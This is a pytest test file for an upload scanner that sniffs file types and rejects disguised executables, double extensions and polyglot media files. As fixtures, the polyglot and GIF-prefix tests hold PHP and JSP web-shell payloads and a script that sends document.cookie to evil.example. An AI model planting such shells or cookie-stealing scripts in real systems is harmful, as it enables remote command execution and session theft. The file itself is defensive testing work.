# Copyright (c) 2026, aiguard.hardening maintainers
# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Content sniffing and verdicts of uploadscan (sniff, verdict, kinds)."""

from __future__ import annotations

import shutil
import subprocess

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from uploadscan_samples import (
    DANGEROUS_ROWS,
    EVERYTHING,
    HEADERS,
    MAGIC_ROWS,
    MEDIA_ROWS,
    POLICY,
    ids,
)

from ansible_collections.aiguard.hardening.plugins.module_utils.uploadscan import kinds as us_kinds
from ansible_collections.aiguard.hardening.plugins.module_utils.uploadscan import sniff as us_sniff
from ansible_collections.aiguard.hardening.plugins.module_utils.uploadscan import verdict as us_verdict


@pytest.mark.parametrize(("ext", "kind", "_magic", "head"), HEADERS, ids=ids(HEADERS))
def test_sniff_real_headers(ext, kind, _magic, head):
    assert us_sniff.sniff(head).type == kind


@pytest.mark.skipif(shutil.which("file") is None, reason="libmagic's file(1) is not installed")
@pytest.mark.parametrize(("ext", "kind", "magic", "head"), MAGIC_ROWS, ids=ids(MAGIC_ROWS))
def test_libmagic_agrees_on_the_table(tmp_path, ext, kind, magic, head):
    """The table holds real headers: Debian's libmagic names the same type for the same bytes."""
    path = tmp_path / f"sample.{ext}"
    path.write_bytes(head)
    found = subprocess.run(["file", "-b", "--mime-type", str(path)], capture_output=True, text=True, check=True)
    assert found.stdout.strip() == magic


@pytest.mark.parametrize(("ext", "kind", "_magic", "head"), HEADERS, ids=ids(HEADERS))
def test_right_name_is_allowed_only_for_data(ext, kind, _magic, head):
    verdict, detection, reason = us_verdict.judge(f"upload.{ext}", len(head), head, EVERYTHING)
    if us_kinds.TYPES[kind].family == us_kinds.DANGEROUS:
        assert verdict == us_kinds.EXECUTABLE, reason
        assert "must never be stored" in reason or "found" in reason
    else:
        assert (verdict, detection.type) == (us_kinds.ALLOWED, kind), reason


@pytest.mark.parametrize(("ext", "kind", "_magic", "head"), MEDIA_ROWS, ids=ids(MEDIA_ROWS))
def test_mismatched_extension(ext, kind, _magic, head):
    other = "pdf" if ext != "pdf" else "png"
    verdict, _detection, reason = us_verdict.judge(f"photo.{other}", len(head), head, POLICY)
    assert verdict == us_kinds.EXTENSION_MISMATCH
    assert f"the extension .{other} does not match the content, {us_kinds.TYPES[kind].label}" in reason


@pytest.mark.parametrize(("ext", "kind", "_magic", "head"), DANGEROUS_ROWS, ids=ids(DANGEROUS_ROWS))
@pytest.mark.parametrize("disguise", ["avatar.mp4", "voice.wav", "portrait.png", "avatar.php.mp4"])
def test_disguised_executables(ext, kind, _magic, head, disguise):
    verdict, detection, reason = us_verdict.judge(disguise, len(head), head, POLICY)
    assert verdict == us_kinds.EXECUTABLE, reason
    assert detection.kind.family == us_kinds.DANGEROUS


@pytest.mark.parametrize(("ext", "kind", "_magic", "head"), MEDIA_ROWS, ids=ids(MEDIA_ROWS))
@pytest.mark.parametrize(
    "payload",
    [
        b"<?php system($_GET['c']); ?>",
        b"<?=`$_GET[0]`?>",
        b"<script>fetch('//evil.example/'+document.cookie)</script>",
        b'<%@ page import="java.io.*" %>',
        b'<% eval request("x") %>',
    ],
)
def test_polyglots(ext, kind, _magic, head, payload):
    """A valid media header with a script inside the window: the classic GIFAR / PHP-in-EXIF upload."""
    data = head + b"\0" * 100 + payload + b"\0" * 100
    verdict, detection, reason = us_verdict.judge(f"upload.{ext}", len(data), data, POLICY)
    assert verdict == us_kinds.POLYGLOT, reason
    assert detection.type == kind
    assert f"at byte {len(head) + 100}" in reason


@pytest.mark.parametrize(("ext", "kind", "_magic", "head"), MEDIA_ROWS, ids=ids(MEDIA_ROWS))
def test_script_beyond_the_window_is_not_seen(ext, kind, _magic, head):
    """The documented limit: only the window is searched."""
    data = head + b"\0" * 200 + b"<?php ?>"
    policy = us_verdict.Policy(window=len(head) + 100)
    assert us_verdict.judge(f"upload.{ext}", len(data), data[: policy.window], policy)[0] == us_kinds.ALLOWED


@pytest.mark.parametrize(
    ("ext", "kind", "_magic", "head"),
    MEDIA_ROWS + [r for r in HEADERS if r[1] in ("pdf", "zip")],
    ids=ids(MEDIA_ROWS + [r for r in HEADERS if r[1] in ("pdf", "zip")]),
)
def test_truncated_headers_are_not_taken_for_the_type(ext, kind, _magic, head):
    """Three bytes of a header are never enough to be allowed."""
    verdict, detection, _reason = us_verdict.judge(f"upload.{ext}", 3, head[:3], POLICY)
    assert detection.type != kind or kind == "jpeg"
    assert verdict != us_kinds.ALLOWED or kind == "jpeg"


def test_gif_prefixed_web_shell():
    """The classic "GIF89a;" in front of a PHP shell is never allowed."""
    data = b"GIF89a;\n<?php eval(base64_decode($_POST['x'])); ?>\n"
    verdict, detection, reason = us_verdict.judge("avatar.gif", len(data), data, POLICY)
    assert verdict == us_kinds.POLYGLOT and detection.type == "gif" and "PHP code inside ('<?php' at byte 8)" in reason


def test_empty_file():
    assert us_verdict.judge("voice.wav", 0, b"", POLICY)[0] == us_kinds.EMPTY


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("avatar.php.mp4", us_kinds.DOUBLE_EXTENSION),
        ("shell.PHP.jpg", us_kinds.DOUBLE_EXTENSION),
        ("x.jsp.png", us_kinds.DOUBLE_EXTENSION),
        ("holiday.2025.mp4", us_kinds.ALLOWED),
        ("my.video.mp4", us_kinds.ALLOWED),
        (".hidden.mp4", us_kinds.ALLOWED),
        ("noext", us_kinds.ALLOWED),
        ("clip.MP4", us_kinds.ALLOWED),
    ],
)
def test_double_extension(name, expected):
    head = HEADERS[0][3]
    verdict, _detection, reason = us_verdict.judge(name, 1000, head, POLICY)
    assert verdict == expected, reason
    if expected == us_kinds.DOUBLE_EXTENSION:
        assert "hides a ." in reason


def test_size_limit_and_type_policy():
    head = HEADERS[0][3]
    policy = us_verdict.Policy(max_size=1000)
    assert us_verdict.judge("a.mp4", 1000, head, policy)[0] == us_kinds.ALLOWED
    verdict, _d, reason = us_verdict.judge("a.mp4", 1001, head, policy)
    assert verdict == us_kinds.OVERSIZE and reason == "1001 bytes is over the limit of 1000 bytes"
    pdf = next(r for r in HEADERS if r[1] == "pdf")[3]
    verdict, _d, reason = us_verdict.judge("a.pdf", 100, pdf, POLICY)
    assert verdict == us_kinds.TYPE_NOT_ALLOWED and "does not accept" in reason
    assert us_verdict.judge("notes.txt", 5, b"hello", POLICY)[0] == us_kinds.TYPE_NOT_ALLOWED
    assert us_verdict.judge("a.mp4", 5, b"hello", POLICY)[0] == us_kinds.EXTENSION_MISMATCH
    assert us_verdict.judge("a.mp4", 5, b"\x00\x01\x02\x03\x04", POLICY)[0] == us_kinds.TYPE_NOT_ALLOWED


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("200m", 200 * 1024**2),
        ("512K", 512 * 1024),
        ("1g", 1024**3),
        ("1000", 1000),
        (1000, 1000),
        ("0", None),
        ("", None),
        (None, None),
    ],
)
def test_parse_size(text, expected):
    assert us_kinds.parse_size(text) == expected


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (dict(allowed_types=["mp4", "exe"]), "unknown type(s) exe"),
        (dict(allowed_types=["php"]), "php is executable or script content and cannot be allowed"),
        (dict(action="quarantine"), "needs a quarantine directory"),
        (dict(window=10), "at least 64 bytes"),
    ],
)
def test_bad_policies(args, message):
    with pytest.raises(us_kinds.UploadScanError, match=message.replace("(", r"\(").replace(")", r"\)")):
        us_verdict.Policy(**args)


@pytest.mark.parametrize("text", ["20 parsecs", "1.5m", "-1", "1t", " 200m", "200 m", "200m\n", "m"])
def test_bad_sizes(text):
    with pytest.raises(us_kinds.UploadScanError, match="not a size nginx understands"):
        us_kinds.parse_size(text)


@pytest.mark.parametrize(
    ("head", "clean"),
    [
        # Real metadata that must not look like script: XMP packets in JPEG/PNG, PDF dictionaries.
        (
            b"\xff\xd8\xff\xe1\x10\x00http://ns.adobe.com/xap/1.0/\0<?xpacket begin='' id='W5M0MpCehiHzreSzNTczkc9d'?>"
            b"<x:xmpmeta xmlns:x='adobe:ns:meta/'><rdf:RDF></rdf:RDF></x:xmpmeta><?xpacket end='w'?>",
            True,
        ),
        (b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n", True),
        (b"%PDF-1.7\n1 0 obj\n<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\n", False),
    ],
)
def test_metadata_is_not_a_marker(head, clean):
    assert (us_sniff.sniff(head).marker is None) is clean


@settings(max_examples=400, deadline=None)
@given(st.binary(max_size=600))
def test_random_bytes_never_crash(data):
    verdict, detection, reason = us_verdict.judge("upload.bin", len(data), data, EVERYTHING)
    assert verdict in us_kinds.VERDICTS and detection.type in us_kinds.TYPES and reason


@settings(max_examples=400, deadline=None)
@given(
    st.sampled_from([r[3][:8] for r in DANGEROUS_ROWS if us_kinds.TYPES[r[1]].family == us_kinds.DANGEROUS]),
    st.binary(max_size=600),
    st.sampled_from(["a.mp4", "a.png", "a.wav", "a", "a.php.mp4"]),
)
def test_executable_headers_are_never_allowed(prefix, rest, name):
    data = prefix + rest
    verdict, _detection, reason = us_verdict.judge(name, len(data), data, EVERYTHING)
    assert verdict != us_kinds.ALLOWED, reason
